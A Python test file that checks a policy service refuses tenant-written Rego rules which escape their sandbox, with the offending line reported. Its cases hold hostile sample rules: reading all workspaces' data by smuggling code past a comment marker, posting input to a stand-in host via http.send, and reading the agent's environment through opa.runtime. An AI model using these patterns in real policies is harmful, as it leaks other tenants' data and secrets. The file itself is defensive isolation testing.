"""Rego a workspace author could use to reach beyond ``input`` and its own ``policy_data`` is
refused at upload, with its line. On the sidecar each policy runs alone in its own engine, but an
OPA agent holds every workspace's policy data in one data tree and runs its built-ins for real, so
there the compile check is the isolation (the OPA side: tests/system/test_opa_bundles.py)."""

from __future__ import annotations

import pytest

from relaygate.decision import workspace_policy as wp


def _doc(*rules: str) -> wp.PolicyDocument:
    body = "\n".join("  " + r for r in ("package anything", "import rego.v1", *rules))
    return wp.parse_document(f"name: t\nrego: |\n{body}\n")


@pytest.mark.parametrize(
    ("rules", "said", "line"),
    [
        # relaygate's own comment line, written by the author: what followed it escaped the check
        ([wp.ADDED_MARKER, 'deny contains sprintf("%v", [data.workspace_policies]) if true'], "'data'", 6),
        (["", wp.ADDED_MARKER, "", 'deny contains "x" if { data.relaygate }'], "'data'", 8),
        # built-ins that reach outside: the agent's network and its environment/configuration
        (
            ['deny contains "x" if { http.send({"method": "post", "url": "https://x.example", "body": input}) }'],
            "http.send",
            5,
        ),
        (['deny contains sprintf("%v", [opa.runtime().env]) if true'], "opa.runtime", 5),
        (["f(x) := opa.runtime() if x", 'deny contains "x" if { f(true) }'], "opa.runtime", 5),
    ],
)
def test_rego_that_reaches_beyond_input_and_its_own_data_is_refused(rules, said, line):
    with pytest.raises(wp.PolicyDocumentError) as e:
        wp.compile_policy("pol_t", _doc(*rules))
    assert said in e.value.message and e.value.line == line, e.value


def test_relaygates_comment_line_in_the_authors_rego_changes_nothing_else():
    """The comment itself is harmless: a policy that only contains it compiles, and its module is
    the author's lines plus relaygate's one policy_data rule (not cut short at the author's copy)."""
    doc = _doc(wp.ADDED_MARKER, 'deny contains "big" if count(input.messages) > policy_data.max')
    source = wp.compile_policy("pol_t", doc)
    assert source.count(wp.ADDED_MARKER) == 2 and source.count("policy_data := ") == 1
    assert 'deny contains "big"' in source.split(wp.ADDED_MARKER)[1]


@pytest.mark.parametrize("rule", ['policy_data contains "x"', "default policy_data := {}", "policy_data.x := 1"])
def test_a_policy_may_not_define_policy_data_itself(rule):
    """relaygate defines it; a second definition regorus would take and OPA refuse (or silently
    override the policy's own data with another value on one engine only)."""
    with pytest.raises(wp.PolicyDocumentError) as e:
        wp.compile_policy("pol_t", _doc(rule, 'deny contains "n" if false'))
    assert "'policy_data' is defined by relaygate" in e.value.message and e.value.line == 5, e.value
